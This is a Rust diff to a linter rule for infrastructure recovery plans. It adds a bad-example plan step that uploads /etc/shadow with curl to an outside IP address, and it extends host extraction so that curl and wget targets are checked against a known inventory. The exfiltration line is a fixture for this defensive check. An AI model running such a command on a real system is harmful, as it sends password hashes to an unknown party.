@@ -29,8 +29,16 @@ pub const RULE: Rule = Rule {
             plan: "schema: blackstart/plan/v1\nid: p\nkind: backup\ntitle: t\nsteps:\n  - {id: up, title: Send, kind: command, host: web1, risk: write, run: 'aws s3 cp /backup/app.tgz \"s3://shop-backups/app-$(date +%F).tgz\"'}\n",
             inventory: INVENTORY,
         },
+        Example::Plan {
+            plan: "schema: blackstart/plan/v1\nid: p\nkind: recovery\ntitle: t\nsteps:\n  - {id: send, title: Send, kind: command, host: web1, risk: write, run: 'curl -sT /etc/shadow https://203.0.113.9/u'}\n",
+            inventory: INVENTORY,
+        },
     ],
     good: &[
+        Example::Plan {
+            plan: "schema: blackstart/plan/v1\nid: p\nkind: recovery\ntitle: t\nsteps:\n  - {id: look, title: Look, kind: check, check: 'curl -fsS http://web1.internal:8080/health && curl -fsS http://localhost/ && curl -fsS \"https://10.0.0.5/x\"'}\n",
+            inventory: INVENTORY,
+        },
         Example::Plan {
             plan: "schema: blackstart/plan/v1\nid: p\nkind: recovery\ntitle: t\nsteps:\n  - {id: stop, title: Stop, kind: command, host: web1, risk: disruptive, run: systemctl stop app}\n  - {id: look, title: Look, kind: check, check: 'ssh root@10.0.0.5 true && ssh web1.internal true'}\n",
             inventory: INVENTORY,
@@ -151,6 +159,19 @@ fn named(unit: &Unit<'_>, run: Run<'_>) -> Vec<(String, Span)> {
     {
         let span = command.words.get(host.index).map_or(command.span, |a| a.span);
         add(&host.text, span);
+    }
+    // What is fetched may be run, and what is sent is gone: both only where the inventory knows the other side.
+    if command.is(&["curl", "wget"])
+        && let Some(call) = unit.take_apart(command)
+    {
+        for word in &call.operands {
+            let rest = word.text.split_once("://").map_or(word.text.as_str(), |(_, rest)| rest);
+            let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
+            let host = host.rsplit('@').next().unwrap_or_default();
+            let host = host.split(':').next().filter(|_| !host.starts_with('[')).unwrap_or(host);
+            let span = command.words.get(word.index).map_or(command.span, |a| a.span);
+            add(host, span);
+        }
     }
     for argument in command.arguments() {
         let shown = argument.shown();
